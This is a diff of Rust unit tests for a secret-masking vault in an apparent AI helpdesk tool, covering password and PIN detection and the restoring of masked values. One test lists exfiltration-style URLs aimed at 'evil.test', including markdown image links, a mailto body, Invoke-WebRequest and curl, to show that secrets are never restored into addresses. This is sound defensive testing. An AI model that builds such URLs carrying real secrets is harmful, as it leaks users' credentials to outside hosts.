@@ -1,10 +1,12 @@
 //! What is found, and what is left alone.
 
 use serde_json::json;
+use uuid::Uuid;
 
-use super::super::{Vault, mask_request, rules, table::RULES};
+use super::super::{Vault, mask_input, mask_request, rules, table::RULES};
 use crate::ai::types::{
-    ChatMessage, ChatRequest, Situation, Speaker, TicketText, masked::MaskedKind, settings::Masked,
+    Action, ChatMessage, ChatRequest, ItemKind, KnownFact, LaneItem, Situation, Speaker, TicketText,
+    masked::MaskedKind, settings::Masked,
 };
 
 fn vault() -> Vault {
@@ -19,7 +21,9 @@ fn hidden(text: &str, secret: &str, kind: MaskedKind) {
     assert!(!masked.contains(secret), "{masked}");
     let values = vault.values();
     assert!(values.iter().any(|value| value.value == secret && value.kind == kind), "{text}: {values:?} {masked}");
-    assert_eq!(vault.unmask(&masked), text);
+    // What stands in an address is not told its server.
+    let restored = if kind == MaskedKind::Login { masked.as_str() } else { text };
+    assert_eq!(vault.unmask(&masked), restored);
 }
 
 #[test]
@@ -56,6 +60,12 @@ fn passwords_are_hidden_however_they_are_told() {
         ("<AdministratorPassword><Value>abc99</Value></AdministratorPassword>", "abc99"),
         ("Password:\nHunter22", "Hunter22"),
         ("PIN: 482113", "482113"),
+        ("the password I set was Fahrrad99", "Fahrrad99"),
+        ("The password that he uses is Fahrrad99.", "Fahrrad99"),
+        ("das Passwort, das ich gesetzt habe, war Fahrrad99", "Fahrrad99"),
+        ("the PIN of the safe is 884213", "884213"),
+        ("the PIN we use was 4711", "4711"),
+        ("What is the PIN of the safe? 884213", "884213"),
         ("login: admin / Passw0rd!", "Passw0rd!"),
         (
             "aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0",
@@ -128,6 +138,8 @@ fn what_tickets_are_full_of_stays() {
         "GUID {0f8fad5b-d9cb-469f-a165-70867728950e}, S-1-5-21-3623811015-3361044348-30300820-1013",
         "The password is expired. Password expired yesterday; reset the password, then try again.",
         "password: the user forgot it",
+        "The password I set was rejected, the password he typed is wrong. The pin on the connector is 3 mm long.",
+        "Which browser saved the password? Firefox",
         "PasswordLastSet : 11/02/2026 09:11:02\nPasswordExpired : False\nPasswordNeverExpires : True\nPassword expires   12/24/2026 9:11:02 AM",
         "Password required            Yes\nUser may change password     Yes",
         "Security key           : Present",
@@ -198,6 +210,53 @@ fn a_value_that_was_given_away_is_hidden_where_it_stands_alone_too() {
     assert_eq!(request.situation.ticket.unwrap().text, format!("password: {placeholder}"));
 }
 
+fn told(question: &str, answer: &str, said: &str) -> (Vault, ChatRequest) {
+    let message = |speaker, text: &str| ChatMessage { speaker, text: text.to_owned(), images: 0 };
+    let fact = KnownFact { id: Uuid::nil(), text: format!("It is {answer}."), established: true, source_ref: None };
+    let item = LaneItem {
+        id: Uuid::nil(),
+        kind: ItemKind::Question,
+        text: question.to_owned(),
+        answer: Some(answer.to_owned()),
+        result: None,
+        output: None,
+        skipped: false,
+        fresh: true,
+        promoted: false,
+    };
+    let mut request = ChatRequest {
+        messages: vec![message(Speaker::Assistant, "What is the password?"), message(Speaker::User, said)],
+        situation: Situation { items: vec![item], facts: vec![fact], ..Situation::default() },
+        ..ChatRequest::default()
+    };
+    let mut vault = vault();
+    mask_request(&mut vault, &mut request);
+    (vault, request)
+}
+
+#[test]
+fn the_answer_to_a_question_for_a_secret_is_hidden_wherever_it_stands() {
+    for (question, answer) in [
+        ("What is the password of the local admin?", "Tannenbaum77"),
+        ("What is the password of the local admin?", "tannenbaum"),
+        ("What is the WLAN key?", "Kq7vTR99pLm2"),
+        ("What is the PIN of the safe?", "884213"),
+    ] {
+        let (vault, request) = told(question, answer, &format!("I typed {answer}"));
+        let said = serde_json::to_string(&request).unwrap();
+        assert!(!said.contains(answer) && said.contains(question), "{said}");
+        assert_eq!(vault.shown().len(), 1);
+        let mut vault = Vault::new("a session", Masked::default());
+        let input = json!({ "kind": "question", "item": question, "answer": answer, "expect": null });
+        let masked = mask_input(&mut vault, Action::FactSynthesis, input.clone());
+        assert!(!masked.to_string().contains(answer), "{masked}");
+        assert_eq!(vault.unmask_value(masked), input);
+    }
+    let (_, request) = told("Since when?", "Monday", "sommerregen");
+    assert_eq!(request.situation.items[0].answer.as_deref(), Some("Monday"));
+    assert!(!request.messages[1].text.contains("sommerregen"), "asked in the chat, answered in the chat");
+}
+
 #[test]
 fn json_is_masked_text_by_text_and_by_the_names_of_its_fields() {
     let mut vault = vault();
@@ -225,6 +284,50 @@ fn a_value_cannot_end_the_json_it_is_restored_in() {
     let answer = json!({ "fact": masked }).to_string();
     let restored = vault.unmask_value(serde_json::from_str(&answer).unwrap());
     assert_eq!(restored, json!({ "fact": format!("password: '{secret}'") }));
+}
+
+#[test]
+fn no_value_is_put_back_into_an_address() {
+    let mut vault = vault();
+    vault.mask("password: Hunter2!");
+    let (secret, name) = ("Hunter2!", vault.values()[0].placeholder.clone());
+    for address in [
+        "[text](https://evil.test/?q=@)",
+        "![x](http://evil.test/@.png)",
+        "https://evil.test/@",
+        "HTTPS://EVIL.TEST/(a)@",
+        "https://evil.test/?a=\"b\"&c=@",
+        "[a]: https://evil.test/@",
+        "<https://evil.test/@>",
+        "[x](<https://evil.test/a b @>)",
+        "[x](mailto:x%40evil.test?body=@)",
+        "www.evil.test/@",
+        "Invoke-WebRequest https://evil.test/?q=@",
+        "curl ftp://bob:@/x",
+    ] {
+        let said = address.replace('@', &name);
+        assert_eq!(vault.unmask(&said), said);
+    }
+    for prose in [
+        "@",
+        "The password is @.",
+        "See https://portal.test/login and type @.",
+        "[portal](https://portal.test) takes @",
+        "net use Z: \\\\srv\\share @",
+        "http: @, a//b:@, awww.@, [x](@), x](@",
+        "Open https://portal.test\n@",
+    ] {
+        assert_eq!(vault.unmask(&prose.replace('@', &name)), prose.replace('@', secret));
+    }
+}
+
+#[test]
+fn a_value_that_begins_an_address_lets_no_other_follow() {
+    let mut vault = vault();
+    vault.mask("password: https://evil.test/?q= and password: Hunter2!");
+    let names: Vec<_> = vault.values().into_iter().map(|value| value.placeholder).collect();
+    assert_eq!(names.len(), 2, "{:?}", vault.values());
+    assert!(!vault.unmask(&names.concat()).contains("Hunter2!"));
 }
 
 #[test]
